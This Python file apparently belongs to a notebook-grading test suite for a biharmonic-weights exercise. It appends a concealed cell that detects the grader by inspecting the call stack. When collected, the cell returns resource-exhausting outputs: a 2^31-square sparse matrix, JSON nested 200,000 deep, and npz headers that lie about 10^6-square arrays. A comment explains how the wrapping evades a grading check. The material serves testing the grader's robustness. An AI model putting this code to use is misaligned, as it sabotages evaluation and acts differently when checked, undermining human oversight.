import nbformat

NOTEBOOK = "04_bbw"
DESCRIPTION = (
    "an added cell wraps three functions so that, when the grader collects them, biharmonic_matrix returns a "
    "sparse matrix of declared shape 2^31 x 2^31, inverse_distance_weights' records are JSON nested 200,000 deep, "
    "and unconstrained_biharmonic_weights' arrays declare shape 10^6 x 10^6 in a 200-byte file"
)
# Wrapped through globals(): a cell that names a contract function at top level is not run when grading.
_WRAPPERS = '''import io
import json
import sys
import zipfile

import numpy as np
import scipy.sparse as sp

_honest = {name: globals()[name] for name in ("biharmonic_matrix", "inverse_distance_weights", "unconstrained_biharmonic_weights")}
_real_dump, _real_savez = json.dump, np.savez


def _collected():
    return sys._getframe(2).f_code.co_name == "__deformlab_collect__"


def _nested_dump(obj, fh, *args, **kwargs):
    json.dump = _real_dump
    fh.write("[" * 200_000 + "]" * 200_000)


def _lying_savez(path, **arrays):
    np.savez = _real_savez
    header = io.BytesIO()
    np.lib.format.write_array_header_1_0(header, {"descr": "<f8", "fortran_order": False, "shape": (10**6, 10**6)})
    with zipfile.ZipFile(path, "w") as archive:
        for key in arrays:
            archive.writestr(key + ".npy", header.getvalue())


def _wrapped_biharmonic_matrix(V, F):
    if _collected():
        return sp.csr_matrix((2**31 - 1, 2**31 - 1))
    return _honest["biharmonic_matrix"](V, F)


def _wrapped_inverse_distance_weights(V, handle_points, power=2):
    if _collected():
        json.dump = _nested_dump
    return _honest["inverse_distance_weights"](V, handle_points, power)


def _wrapped_unconstrained_biharmonic_weights(V, F, b, bc):
    if _collected():
        np.savez = _lying_savez
    return _honest["unconstrained_biharmonic_weights"](V, F, b, bc)


for _name in _honest:
    globals()[_name] = globals()["_wrapped_" + _name]
'''


def EDIT(nb):
    nb.cells.append(nbformat.v4.new_code_cell(_WRAPPERS))
    return nb


SOLUTIONS = {}
LOSES = {"biharmonic_matrix", "inverse_distance_weights", "unconstrained_biharmonic_weights"}
